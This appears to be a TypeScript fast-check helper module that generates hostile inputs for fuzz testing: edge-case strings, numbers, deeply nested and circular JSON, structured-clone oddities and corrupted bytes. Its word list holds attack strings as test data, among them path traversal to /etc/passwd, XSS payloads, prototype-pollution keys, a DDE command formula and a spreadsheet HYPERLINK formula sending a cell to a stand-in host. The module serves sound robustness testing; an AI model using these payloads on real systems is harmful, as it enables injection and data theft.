import fc from 'fast-check'

/** Words that are keys of every object, or mean something to a spreadsheet, a page, a path or a parser. */
export const HOSTILE_WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\x',
  'CON',
  '.',
  '..',
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ufeff',
  '\u202egnp.exe',
  '\u2028',
  '\ud800',
  '"',
  "'",
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1)',
  '@SUM(1)',
  '+49 30 1234567',
  '-2+3+cmd|"/C calc"!A0',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '%s%n%x',
  '%00',
  '1e999',
  '-1e999',
  '1E+30',
  'NaN',
  'Infinity',
  '9007199254740993',
  '-0',
  '0x10',
  '31.02.2026',
  '2026-02-30',
  '٣٫٥',
  'İ',
  'ß',
  '👩‍👩‍👧‍👦',
] as const

export const hostileWord: fc.Arbitrary<string> = fc.constantFrom(...HOSTILE_WORDS)

/** Up to a megabyte of one sign, which finds whatever takes the square of a length. */
const longText: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('a', '"', '1', ' ', '\n', '/', '<', '[', 'a1', '";', '\u0300', '😀'),
    fc.constantFrom(1_000, 20_000, 300_000),
  )
  .map(([sign, count]) => sign.repeat(Math.ceil(count / sign.length)))

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: hostileWord },
  { weight: 6, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  { weight: 1, arbitrary: longText },
)

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, -1, 1, 2 ** 31, 2 ** 32, 2 ** 53, -(2 ** 53), 1e300, 0.1),
  fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY),
  fc.integer(),
  fc.double(),
)

const key = fc.oneof(hostileWord, fc.string({ maxLength: 6 }))

/** JSON of any shape, prototype keys as own ones included. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ any: unknown }>(tie => ({
  any: fc.oneof(
    { maxDepth: 4, withCrossShrink: true },
    hostileText,
    hostileNumber.map(number => (Number.isFinite(number) ? number : null)),
    fc.constantFrom(null, true, false),
    fc.array(tie('any'), { maxLength: 5 }),
    fc.array(fc.tuple(key, tie('any')), { maxLength: 5 }).map(pairs => Object.fromEntries(pairs)),
  ),
})).any

/** Nested deeper than a call stack reaches. */
export const deepJson = (depth: number): unknown => JSON.parse('['.repeat(depth) + ']'.repeat(depth))

/** What else comes through the structured clone of a message. */
export const hostileClone: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 6, arbitrary: hostileJson },
  { weight: 2, arbitrary: hostileNumber },
  {
    weight: 2,
    arbitrary: fc
      .constantFrom<() => unknown>(
        () => undefined,
        () => 10n ** 30n,
        () => new Date(Number.NaN),
        () => new Map([['theme', 'dark']]),
        () => new Set([1]),
        () => /x/g,
        () => new Error('no'),
        () => new Uint8Array(10),
        () => new ArrayBuffer(8),
        () => new Float64Array([Number.NaN]),
        () => Object.assign([], { length: 4_000_000_000 }),
        () => ({ toString: 1, valueOf: 1 }),
        () => circular(),
        () => deepJson(20_000),
      )
      .map(make => make()),
  },
)

function circular(): object {
  const one: Record<string, unknown> = {}
  one.self = one
  one.list = [one]
  return one
}

/** Bytes with some of them changed, put in, or cut off. */
export const damaged = (whole: Uint8Array): fc.Arbitrary<Uint8Array> =>
  fc
    .array(
      fc.record({
        at: fc.nat(Math.max(0, whole.length - 1)),
        does: fc.constantFrom('flip', 'flip', 'set', 'cut', 'double', 'drop'),
        bits: fc.integer({ min: 1, max: 255 }),
      }),
      { minLength: 1, maxLength: 5 },
    )
    .map(steps => {
      let bytes: Uint8Array = whole.slice()
      for (const { at, does, bits } of steps) {
        if (at >= bytes.length) continue
        if (does === 'flip') bytes[at] = (bytes[at] ?? 0) ^ bits
        else if (does === 'set') bytes[at] = bits === 1 ? 0 : 0xff
        else if (does === 'cut') bytes = bytes.slice(0, at)
        else if (does === 'double')
          bytes = joinedBytes(bytes.subarray(0, at), bytes.subarray(Math.max(0, at - bits)))
        else bytes = joinedBytes(bytes.subarray(0, at), bytes.subarray(Math.min(bytes.length, at + bits)))
      }
      return bytes
    })

export const joinedBytes = (...parts: readonly Uint8Array[]): Uint8Array =>
  new Uint8Array(Buffer.concat(parts))
